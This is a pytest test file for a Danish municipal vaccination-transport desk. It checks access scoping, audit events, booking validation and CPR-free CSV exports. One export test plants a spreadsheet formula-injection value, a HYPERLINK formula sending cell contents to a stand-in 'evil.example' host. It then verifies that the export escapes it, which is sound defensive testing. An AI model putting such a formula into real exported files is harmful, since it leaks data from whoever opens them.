"""The transport desk arranges rides for citizens going to a vaccination site or a pop-up session,
and hands the transport provider a list without CPR numbers."""

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from municipalities import services
from municipalities.models import ContactTask, TransportBooking, Visitation
from municipalities.ssi.weeks import parse_week
from outreach.models import AccessEvent, Citizen, Municipality
from tests.factories import fake_cpr

pytestmark = pytest.mark.django_db

HEADER = "cpr;navn;målgruppe;invitationsdato;adresse;postnummer;by;telefon"


def import_list(tmp_path: Path, code: str, rows: list[str]) -> None:
    path = tmp_path / f"{code}-{len(rows)}.csv"
    path.write_text(HEADER + "\n" + "\n".join(rows), encoding="utf-8")
    list_import, _ = services.ssi_list_import_receive(
        path=path, original_name=path.name, source="command",
        municipality=Municipality.objects.get(code=code), week=parse_week("2021-W10"),
    )  # fmt: skip
    services.ssi_list_import_process(list_import_id=list_import.pk)


def listed(n: int, name: str) -> str:
    return f"{fake_cpr(n)};{name};3;01.03.2021;Nørrebrogade {n};2200;København N;2012{n:04d}"


def ride(name: str, decided_by, **fields) -> TransportBooking:
    """The ride a "municipal transport to a vaccination site" decision leaves to arrange."""
    task = ContactTask.objects.select_related("citizen").get(citizen__name=name)
    citizen = task.citizen
    visitation = Visitation.objects.create(
        task=task,
        citizen=citizen,
        wants_vaccination=True,
        mobility=Visitation.Mobility.TRANSPORT_SITTING,
        decision=Visitation.Decision.SITE_TRANSPORT,
        decided_by=decided_by,
    )
    values = {
        "pathway": TransportBooking.Pathway.SITE,
        "kind": TransportBooking.Kind.SITTING,
        "pickup_street": citizen.street,
        "pickup_postcode": citizen.postcode,
        "pickup_city": citizen.city,
        **fields,
    }
    return TransportBooking.objects.create(
        task=task,
        citizen=citizen,
        municipality=task.municipality,
        visitation=visitation,
        **values,
    )


def list_url(code: str = "101") -> str:
    return reverse("municipalities:transport-list", kwargs={"code": code})


def update_url(booking, code: str = "101") -> str:
    return reverse("municipalities:transport-update", kwargs={"code": code, "pk": booking.pk})


def export_url(code: str = "101") -> str:
    return reverse("municipalities:transport-export", kwargs={"code": code})


def cpr_forms(n: int) -> list[str]:
    """Every way the citizen's CPR number could show: full, without hyphen, masked."""
    number = fake_cpr(n)
    return [number, number.replace("-", ""), number[:6] + "-XXXX", number[:6]]


@pytest.fixture(autouse=True)
def _in_english(client, settings):
    """The pages in English, the language of the source strings the tests look for."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


@pytest.fixture
def karen(tmp_path, kbh_caseworker):
    import_list(tmp_path, "101", [listed(1, "Karen Jensen")])
    return ride("Karen Jensen", kbh_caseworker)


def test_it_lists_the_rides_to_arrange_in_her_municipality_only(
    client, tmp_path, kbh_caseworker, aarhus_caseworker, karen
):
    import_list(tmp_path, "751", [listed(2, "Aarhus Borger")])
    ride("Aarhus Borger", aarhus_caseworker)
    client.force_login(kbh_caseworker)
    page = client.get(list_url())
    text = page.content.decode()
    assert page.status_code == 200
    assert "Karen Jensen" in text
    assert "Nørrebrogade 1" in text
    assert "Aarhus Borger" not in text
    case_url = reverse("municipalities:case-detail", kwargs={"code": "101", "pk": karen.task_id})
    assert case_url in text
    for shown in cpr_forms(1):
        assert shown not in text


def test_it_writes_one_list_event_with_the_number_of_rows(client, kbh_caseworker, karen):
    client.force_login(kbh_caseworker)
    client.get(list_url())
    event = AccessEvent.objects.get()
    assert (event.user, event.action, event.detail) == (kbh_caseworker, "list", "1")
    assert (event.organisation_code, event.citizen) == ("101", None)


def test_it_filters_by_status_and_pickup_date(client, tmp_path, kbh_caseworker):
    import_list(tmp_path, "101", [listed(1, "Karen Jensen"), listed(2, "Poul Hansen")])
    tomorrow = timezone.now() + timedelta(days=1)
    ride("Karen Jensen", kbh_caseworker)
    ride("Poul Hansen", kbh_caseworker, status="booked", pickup_at=tomorrow, destination="Hal 1")
    client.force_login(kbh_caseworker)

    default = client.get(list_url()).content.decode()
    assert "Karen Jensen" in default and "Poul Hansen" not in default

    booked = client.get(list_url(), {"status": "booked"}).content.decode()
    assert "Poul Hansen" in booked and "Karen Jensen" not in booked

    day = timezone.localdate(tomorrow)
    on_the_day = client.get(list_url(), {"status": "all", "date": day.isoformat()})
    assert "Poul Hansen" in on_the_day.content.decode()
    assert "Karen Jensen" not in on_the_day.content.decode()
    other_day = client.get(list_url(), {"status": "all", "date": "2021-03-01"})
    assert "Poul Hansen" not in other_day.content.decode()


def test_it_explains_a_date_it_cannot_read(client, kbh_caseworker, karen):
    client.force_login(kbh_caseworker)
    page = client.get(list_url(), {"date": "next tuesday"})
    assert page.status_code == 422
    assert "Karen Jensen" in page.content.decode()  # the default list is still shown


def test_it_shows_nothing_to_a_caseworker_in_aarhus(client, aarhus_caseworker, karen):
    client.force_login(aarhus_caseworker)
    assert client.get(list_url()).status_code == 404
    assert client.get(export_url()).status_code == 404
    assert client.post(update_url(karen), {f"ride-{karen.pk}-action": "book"}).status_code == 404
    karen.refresh_from_db()
    assert karen.status == "to_arrange"
    assert not AccessEvent.objects.exists()


def test_it_will_not_change_another_municipalitys_ride(
    client, tmp_path, kbh_caseworker, aarhus_caseworker
):
    import_list(tmp_path, "751", [listed(2, "Aarhus Borger")])
    theirs = ride("Aarhus Borger", aarhus_caseworker)
    client.force_login(kbh_caseworker)
    response = client.post(update_url(theirs), {f"ride-{theirs.pk}-action": "cancel"})
    assert response.status_code == 404
    theirs.refresh_from_db()
    assert theirs.status == "to_arrange"


def arrange(booking, action: str, **values) -> dict:
    prefix = f"ride-{booking.pk}-"
    return {prefix + "action": action, **{prefix + key: value for key, value in values.items()}}


def test_it_marks_a_ride_booked(client, kbh_caseworker, karen):
    client.force_login(kbh_caseworker)
    pickup = timezone.localtime() + timedelta(days=2)
    response = client.post(
        update_url(karen) + "?status=to_arrange",
        arrange(
            karen,
            "book",
            destination="Vaccinationscenter Bella Center",
            pickup_at=pickup.strftime("%Y-%m-%dT%H:%M"),
            note="Rollator, 2. sal uden elevator",
        ),
    )
    assert response.status_code == 302
    assert response["Location"] == list_url() + "?status=to_arrange"
    karen.refresh_from_db()
    assert karen.status == "booked"
    assert karen.booked_by == kbh_caseworker
    assert karen.booked_at is not None
    assert karen.destination == "Vaccinationscenter Bella Center"
    assert timezone.localtime(karen.pickup_at).strftime("%Y-%m-%d %H:%M") == pickup.strftime(
        "%Y-%m-%d %H:%M"
    )
    assert karen.note == "Rollator, 2. sal uden elevator"


def test_it_will_not_mark_a_ride_booked_without_a_destination_and_time(
    client, kbh_caseworker, karen
):
    client.force_login(kbh_caseworker)
    page = client.post(update_url(karen), arrange(karen, "book", note="Kørestol"))
    assert page.status_code == 422
    text = page.content.decode()
    assert "Write where the citizen is going." in text
    assert "Set the pickup time." in text
    karen.refresh_from_db()
    assert (karen.status, karen.note) == ("to_arrange", "")  # nothing half-saved


def test_it_refuses_a_pickup_time_in_the_past(client, kbh_caseworker, karen):
    client.force_login(kbh_caseworker)
    past = (timezone.localtime() - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    page = client.post(update_url(karen), arrange(karen, "save", pickup_at=past))
    assert page.status_code == 422
    karen.refresh_from_db()
    assert karen.pickup_at is None


def test_it_saves_details_and_cancels_a_ride(client, kbh_caseworker, karen):
    client.force_login(kbh_caseworker)
    response = client.post(update_url(karen), arrange(karen, "save", destination="Hal 2"))
    assert response.status_code == 302
    karen.refresh_from_db()
    assert (karen.status, karen.destination) == ("to_arrange", "Hal 2")

    assert client.post(update_url(karen), arrange(karen, "cancel")).status_code == 302
    karen.refresh_from_db()
    assert karen.status == "cancelled"
    again = client.post(update_url(karen), arrange(karen, "save", destination="Hal 3"))
    assert again.status_code == 422
    assert "This ride was cancelled." in again.content.decode()


def test_it_exports_the_rides_for_the_provider_without_cpr(client, tmp_path, kbh_caseworker, karen):
    import_list(tmp_path, "101", [listed(2, "Poul Hansen")])
    ride("Poul Hansen", kbh_caseworker, kind="wheelchair", note="-2 trapper")
    Citizen.objects.filter(name="Poul Hansen").update(
        name='=HYPERLINK("https://evil.example/?leak="&A1;"Klik")'
    )
    client.force_login(kbh_caseworker)
    response = client.get(export_url())
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    disposition = response["Content-Disposition"]
    assert "Karen" not in disposition and "Poul" not in disposition
    body = response.content.decode("utf-8-sig")
    for n in (1, 2):
        for shown in cpr_forms(n):
            assert shown not in body
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert len(rows) == 3
    assert rows[0] == [
        "Name", "Pickup address", "Postcode", "City", "Phone", "Destination", "Pickup time",
        "Sitting or wheelchair", "Note for the driver",
    ]  # fmt: skip
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Karen Jensen"][1:5] == ["Nørrebrogade 1", "2200", "København N", "20120001"]
    hostile = next(row for row in rows[1:] if "HYPERLINK" in row[0])
    assert hostile[0].startswith("'=")
    assert hostile[8] == "'-2 trapper"
    event = AccessEvent.objects.get()
    assert (event.action, event.detail, event.user) == ("export", "2", kbh_caseworker)


def test_it_exports_with_the_lists_filter(client, tmp_path, kbh_caseworker, karen):
    import_list(tmp_path, "101", [listed(2, "Poul Hansen")])
    ride("Poul Hansen", kbh_caseworker, status="booked")
    client.force_login(kbh_caseworker)
    body = client.get(export_url(), {"status": "booked"}).content.decode("utf-8-sig")
    assert "Poul Hansen" in body and "Karen Jensen" not in body


@pytest.mark.parametrize("rides", [3, 30])
def test_it_keeps_its_queries_flat(
    client, tmp_path, kbh_caseworker, django_assert_max_num_queries, rides
):
    import_list(tmp_path, "101", [listed(n, f"Borger {n}") for n in range(rides)])
    for n in range(rides):
        ride(f"Borger {n}", kbh_caseworker)
    client.force_login(kbh_caseworker)
    # One more since ADR 0014: the device that verified the second factor.
    with django_assert_max_num_queries(10):
        assert client.get(list_url()).status_code == 200
    # One more since ADR 0014: the device that verified the second factor.
    with django_assert_max_num_queries(9):
        assert client.get(export_url()).status_code == 200
